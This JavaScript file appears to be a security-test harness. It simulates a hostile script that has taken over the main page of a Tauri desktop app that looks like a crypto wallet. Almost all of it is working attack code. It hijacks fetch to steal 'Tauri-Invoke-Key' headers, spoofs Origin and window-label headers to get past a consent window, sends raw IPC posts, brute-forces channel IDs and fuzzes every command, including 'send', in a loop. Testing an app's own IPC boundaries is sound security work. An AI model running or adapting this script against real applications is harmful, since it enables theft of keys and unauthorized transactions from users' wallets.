// What a script that took over the main page would do: everything, again and again, until it is told to stop.
// `loot` keeps what it was given. All names and guesses are in `plan`, which the story writes in front of this.
const loot = { answers: [], events: [], rounds: 0, sends: 0, stop: false, done: false, keys: [] };
window.loot = loot;
const internals = window.__TAURI_INTERNALS__;
const invoke = internals.invoke;
const pause = (ms) => new Promise((go) => setTimeout(go, ms));
const written = (value) => {
  try {
    return value instanceof ArrayBuffer ? new TextDecoder().decode(value) : value instanceof Error ? String(value) : JSON.stringify(value) ?? String(value);
  } catch {
    return String(value);
  }
};
const keep = (how, command, ok, value) => loot.answers.push({ how, command, ok, text: written(value) });

async function call(how, command, promise) {
  // An answer that comes later is kept as well.
  const kept = Promise.resolve(promise).then(
    (value) => keep(how, command, true, value),
    (error) => keep(how, command, false, error),
  );
  await Promise.race([kept, pause(1500)]);
}

function shuffled(list) {
  const copy = [...list];
  for (let i = copy.length - 1; i > 0; i -= 1) {
    const j = Math.floor(Math.random() * (i + 1));
    [copy[i], copy[j]] = [copy[j], copy[i]];
  }
  return copy;
}

// Listens to every event by every way to name a target.
async function listen() {
  const targets = [
    { kind: "Any" }, { kind: "App" },
    ...["consent", "main", "*"].flatMap((label) => ["AnyLabel", "Window", "Webview", "WebviewWindow"].map((kind) => ({ kind, label }))),
  ];
  for (const event of plan.events) {
    for (const target of targets) {
      const handler = internals.transformCallback((heard) => loot.events.push(written(heard)));
      await call("listen", `listen ${event} ${target.kind} ${target.label ?? ""}`, invoke("plugin:event|listen", { event, target, handler }));
    }
  }
}

// What the page's own messages carry is seen by whoever replaces the function that sends them.
function tap() {
  const real = window.fetch;
  try {
    window.fetch = (url, options) => {
      const headers = new Headers(options?.headers);
      const key = headers.get("Tauri-Invoke-Key");
      if (key && !loot.keys.includes(key)) loot.keys.push(key);
      return real(url, options);
    };
  } catch {
    // Frozen: there is nothing to see.
  }
  const post = window.webkit?.messageHandlers?.ipc;
  return { real, post };
}

async function raw({ real, post }, command, args) {
  const key = loot.keys[0] ?? "guess";
  for (const url of [`ipc://localhost/${command}`, `http://ipc.localhost/${command}`]) {
    const headers = { "Content-Type": "application/json", "Tauri-Callback": "1", "Tauri-Error": "2", "Tauri-Invoke-Key": key, Origin: "tauri://localhost/consent.html" };
    const answer = real(url, { method: "POST", headers, body: JSON.stringify(args) }).then(async (response) => {
      const text = await response.text();
      if (!response.ok || response.headers.get("Tauri-Response") === "error") throw text;
      return text;
    });
    await call("fetch", command, answer);
  }
  await call("message", command, new Promise((resolve, reject) => {
    if (!post) return reject("no handler");
    const callback = internals.transformCallback(resolve, true);
    const error = internals.transformCallback(reject, true);
    post.postMessage(JSON.stringify({ cmd: command, callback, error, payload: args, options: { headers: {} }, __TAURI_INVOKE_KEY__: key }));
    setTimeout(() => reject("no answer"), 700);
  }));
}

async function frames() {
  for (const url of ["consent.html", "/consent.html", "tauri://localhost/consent.html", "about:blank", "data:text/html,x"]) {
    const frame = document.createElement("iframe");
    frame.src = url;
    document.body.append(frame);
    await pause(30);
    try {
      const inner = frame.contentWindow?.__TAURI_INTERNALS__;
      if (inner) for (const command of plan.consent) await call("frame", command, inner.invoke(command, plan.guesses[0]));
    } catch (error) {
      keep("frame", "frame", false, error);
    }
    frame.remove();
    try {
      keep("open", "open", window.open(url, "_blank") !== null, "opened");
    } catch (error) {
      keep("open", "open", false, error);
    }
  }
}

async function channels() {
  for (let id = 0; id <= 200 && !loot.stop; id += 1) {
    await call("channel", "plugin:__TAURI_CHANNEL__|fetch", invoke("plugin:__TAURI_CHANNEL__|fetch", null, { headers: { "Tauri-Channel-Id": String(id) } }));
  }
}

async function attack() {
  const taps = tap();
  await listen();
  const slow = [channels(), frames()];
  while (!loot.stop) {
    for (const command of shuffled([...plan.main, ...plan.consent, ...plan.plugins])) {
      if (loot.stop) break;
      const guesses = { ...plan.guesses[Math.floor(Math.random() * plan.guesses.length)], ...plan.instead[command] };
      // A few real ones, so that the person can still say no to each.
      if (command === "send" && (loot.sends += 1) > 3) guesses.req = { ...guesses.req, coinId: "unknown" };
      if (command === "portfolio_all") guesses.rows = `__CHANNEL__:${internals.transformCallback(() => {})}`;
      await call("invoke", command, invoke(command, guesses));
      if (plan.consent.includes(command)) {
        await call("header", command, invoke(command, guesses, { headers: { "Tauri-Window-Label": "consent", Origin: "tauri://localhost", Referer: "tauri://localhost/consent.html" } }));
        await raw(taps, command, guesses);
      }
    }
    loot.rounds += 1;
  }
  await Promise.all(slow);
  loot.done = true;
}
attack().catch((error) => {
  keep("attack", "attack", false, error);
  loot.done = true;
});
